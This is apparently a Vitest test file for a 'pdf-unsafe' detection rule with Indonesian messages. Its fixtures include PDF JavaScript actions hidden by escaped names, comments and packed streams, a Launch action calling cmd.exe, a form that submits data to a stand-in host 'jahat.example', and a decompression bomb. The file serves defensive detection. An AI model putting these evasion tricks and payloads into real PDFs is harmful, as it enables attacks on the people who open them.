import { describe, expect, it } from 'vitest';
import { checkFile, ruleIds } from '../example-site.ts';
import { objectStream, pdf } from '../real-files.ts';

const script = '<</S/JavaScript/JS(app.alert(1))>>';
const plain = '0 <</Type/Page/Parent 2 0 R>>';

describe('pdf-unsafe', () => {
  it.each([
    ['a script', script, 'kode JavaScript'],
    ['a script with an escaped name', '<</S/J#61vaScript/J#53 5 0 R>>', 'kode JavaScript'],
    ['a script among the names', '<</Names<</JavaScript 4 0 R>>>>', 'kode JavaScript'],
    ['a script when the document opens', `<</OpenAction ${script}>>`, 'kode JavaScript'],
    ['a script behind a comment', '<< % a ( comment\n/S /JavaScript >>', 'kode JavaScript'],
    ['a script that a string pretends to hold', '<</A(\\))/S/JavaScript>>', 'kode JavaScript'],
    ['a script in a stream that is no stream', `<<>>\nstream\n 8 0 obj ${script}\nendstream`, 'kode JavaScript'],
    ['a script in a string that is no string', `(( 8 0 obj ${script}`, 'kode JavaScript'],
    ['a script in a packed object', objectStream(`0 ${script}`), 'kode JavaScript'],
    ['the same with the short name', objectStream(`0 ${script}`, '/Filter/Fl'), 'kode JavaScript'],
    ['the same with escaped names', objectStream(`0 ${script}`, '/Filter[/Fl#61teDecode]'), 'kode JavaScript'],
    ['a program', '<</S/Launch/F(cmd.exe)>>', 'perintah membuka program'],
    ['a form that sends away', '<</S/SubmitForm/F(https://jahat.example/)>>', 'mengirim data'],
    ['a file inside', '<</Type/EmbeddedFile>>', 'berkas lampiran'],
    ['files inside', '<</Names<</EmbeddedFiles 4 0 R>>>>', 'berkas lampiran'],
    ['an XFA form', '<</AcroForm<</XFA 4 0 R>>>>', 'formulir XFA'],
    ['rich media', '<</Subtype/RichMedia>>', 'formulir XFA, film'],
    ['a lock', '<</Encrypt 9 0 R>>', 'dikunci dengan sandi'],
    ['packing that cannot be opened', objectStream(plain, '/Filter/LZWDecode'), 'tidak dapat diperiksa'],
    ['two packings', objectStream(plain, '/Filter[/ASCIIHexDecode/FlateDecode]'), 'tidak dapat diperiksa'],
    ['no packing', '<</Type/ObjStm>>\nstream\n9 0 <<>>\nendstream', 'tidak dapat diperiksa'],
    ['broken packing', '<</Type/ObjStm/Filter/FlateDecode>>\nstream\nxx\nendstream', 'tidak dapat diperiksa'],
    ['a packing bomb', objectStream(' '.repeat(20_000_000)), 'tidak dapat diperiksa'],
  ])('finds %s', async (_what, object, message) => {
    const found = await checkFile('naskah.pdf', pdf(object));
    expect(found).toMatchObject([{ ruleId: 'pdf-unsafe', message: expect.stringContaining(message) }]);
    expect(found[0]?.help).toContain('Simpan sebagai PDF');
  });

  it('finds it under other names', async () => {
    expect(ruleIds(await checkFile('naskah.txt', pdf(script)))).toEqual(['file-type-mismatch', 'pdf-unsafe']);
  });

  it.each([
    ['a page to open at', '<</OpenAction[3 0 R/FitH 800]>>'],
    ['a link to a page about scripts', '<</S/URI/URI(https://contoh.go.id/JavaScript /JS)>>'],
    ['a title about launching', '<</Title(Launch /Launch \\) /XFA)>>'],
    ['packed pages', objectStream(plain)],
    ['contents that look like a name', '<</Length 20>>\nstream\n(/JavaScript) Tj /JS\nendstream'],
  ])('is content with %s', async (_what, object) => {
    expect(await checkFile('naskah.pdf', pdf(object))).toEqual([]);
  });

  it('gets to the end of a hostile file', async () => {
    const hostile = pdf('1 0 obj ('.repeat(200_000));
    expect(ruleIds(await checkFile('naskah.pdf', hostile))).toEqual(['pdf-unsafe']);
  });
});
